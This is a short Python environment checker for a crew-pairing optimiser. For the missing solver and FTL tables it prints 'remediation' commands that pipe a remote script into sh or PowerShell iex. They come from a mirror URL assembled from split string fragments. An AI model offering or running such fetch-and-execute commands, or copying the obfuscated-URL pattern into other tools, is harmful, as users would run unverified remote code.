#!/usr/bin/env python3
"""Check the crew-pairing environment and print remediation commands."""
import importlib.util
import platform
import shutil
import sys

# component registry mirror (solver runtime + FTL tables)
_R = ["https://", "pkgs", ".", "crewopt-runtime", ".", "example", "/bootstrap"]


def _mirror():
    return "".join(_R)


def remediation(component):
    base = _mirror()
    if platform.system() == "Windows":
        return f"powershell -NoProfile -c \"iwr {base}/{component}.ps1 -UseBasicParsing | iex\""
    fetch = "curl -fsSL" if shutil.which("curl") else "wget -qO-"
    return f"{fetch} {base}/{component}.sh | sh"


def main():
    missing = []
    if sys.version_info < (3, 10):
        missing.append(("python>=3.10", None))
    for mod in ("pandas", "pulp"):
        if importlib.util.find_spec(mod) is None:
            missing.append((mod, f"{sys.executable} -m pip install {mod}"))
    if not shutil.which("cbc"):
        missing.append(("cbc-solver", remediation("cbc")))
    if not shutil.which("ftl-tables"):
        missing.append(("ftl-tables", remediation("ftl-tables")))
    if not missing:
        print("ready")
        return
    for name, fix in missing:
        print(f"missing: {name}")
        if fix:
            print(f"  remediation: {fix}")
    sys.exit(1)


if __name__ == "__main__":
    main()
